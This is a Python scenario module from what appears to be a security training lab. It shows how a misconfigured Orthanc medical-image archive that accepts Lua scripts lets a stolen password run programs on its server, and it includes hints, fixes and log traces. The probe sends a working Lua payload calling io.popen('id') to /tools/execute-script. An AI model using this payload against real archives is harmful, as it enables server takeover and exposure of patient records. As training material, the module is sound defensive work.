"""One request runs a program on the archive's server.

Orthanc can run Lua that is sent to it, and Lua starts any program of the system. An administrator's password is then no
longer the key to the archive, but to the machine below it.
"""

from __future__ import annotations

from lab import references as ref
from lab.clients.live import LiveSite
from lab.i18n import t
from lab.model import Severity, Verdict
from lab.probing.repairs import NEW_ADMINISTRATOR_PASSWORD, NO_REMOTE_ACCESS, deny_outside
from lab.probing.web import Loot, Visitor, attempt, records, ways
from lab.sandbox.protocol import Log
from lab.scenario import Fix, Group, Outcome, Scenario, Trace

SCENARIO = Scenario(
    id="lua-exec",
    title=t("One request runs a program on the server"),
    group=Group.WEB,
    severity=Severity.CRITICAL,
    minutes=25,
    roles=(t("PACS administrator"), t("network administrator")),
    story=t(
        "A script should tidy up studies at night, and the quickest way to try it out was to send it to the archive. The option that allows "
        "it was set for an afternoon, three versions ago."
    ),
    misconfiguration={"orthanc": {"ExecuteLuaEnabled": True}},
    hints=(
        t("Somebody has got hold of the administrator's password. What more than the archive does it open?"),
        t("Send a line of Lua to /tools/execute-script, such as “print(1 + 1)”. Where does it run?"),
        t('One option of Orthanc decides it: {{"orthanc": {{"ExecuteLuaEnabled": false}}}}.'),
    ),
    fixes=(
        NEW_ADMINISTRATOR_PASSWORD,
        deny_outside("/tools/execute-script"),
        Fix(
            "off",
            t("Run no Lua that is sent by request"),
            {"orthanc": {"ExecuteLuaEnabled": False}},
            Outcome.REPAIRED,
            t(
                "The request answers 403, whoever asks. Scripts that the archive needs lie in its configuration, where somebody has read them."
            ),
        ),
        NO_REMOTE_ACCESS,
    ),
    traces=(
        Trace(
            Log.ACCESS,
            "default",
            r'^{intruder} - admin .*"POST /tools/execute-script',
            t(
                "The gateway's access log shows that a script was sent, by whose account and from where; not what it did."
            ),
        ),
        Trace(
            Log.ORTHANC,
            "default",
            r"Lua says: uid=",
            t("Only because the script printed something. An intruder's script need not."),
        ),
    ),
    references=(ref.CWE_94, ref.T1059, ref.BOOK_SECURITY),
)

SCRIPT = 'local id = io.popen("id") print(id:read("*l")) id:close()'


def probe(site: LiveSite) -> Verdict:
    """Without an account, with a doctor's and with an administrator's stolen password: run the program ``id`` on the server."""
    tries = ways(site, "doctor", "administrator", stations=("intruder", "visitor"))
    return attempt(site, tries, _run, t("The archive runs no script that is sent to it."))


def _run(visitor: Visitor) -> Loot | None:
    answer = visitor.ask("POST", "/tools/execute-script", content=SCRIPT)
    said = answer.text.strip()
    if answer.status_code != 200 or not said.startswith("uid="):
        return None
    visitor.steps.append(f"    {said}")
    return Loot(
        t(
            "A program runs on the archive's server ({said}): every record and every image is within its reach.",
            said=said,
        ),
        records(visitor),
    )
